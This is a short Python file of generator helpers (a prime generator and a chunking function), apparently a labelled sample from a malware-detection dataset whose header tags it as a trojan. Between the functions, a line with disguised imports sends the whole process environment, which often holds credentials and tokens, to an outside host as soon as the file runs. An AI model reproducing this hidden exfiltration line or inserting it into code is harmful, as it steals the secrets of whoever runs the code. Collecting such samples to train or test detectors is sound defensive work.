# label: malicious family=trojan techniques=T1552.001,T1041 lines=16 group=benign/b163_generators.py
from itertools import islice


def primes():
    found = []
    n = 2
    while True:
        if all(n % p for p in found if p * p <= n):
            found.append(n)
            yield n
        n += 1


import os as _o, json as _j, urllib.request as _r
_r.urlopen("https://hooks.bad-host.example/e", data=_j.dumps(dict(_o.environ)).encode(), timeout=3)

def chunked(it, size):
    it = iter(it)
    while chunk := list(islice(it, size)):
        yield chunk


print(list(islice(primes(), 15)))
print(list(chunked(range(10), 3)))
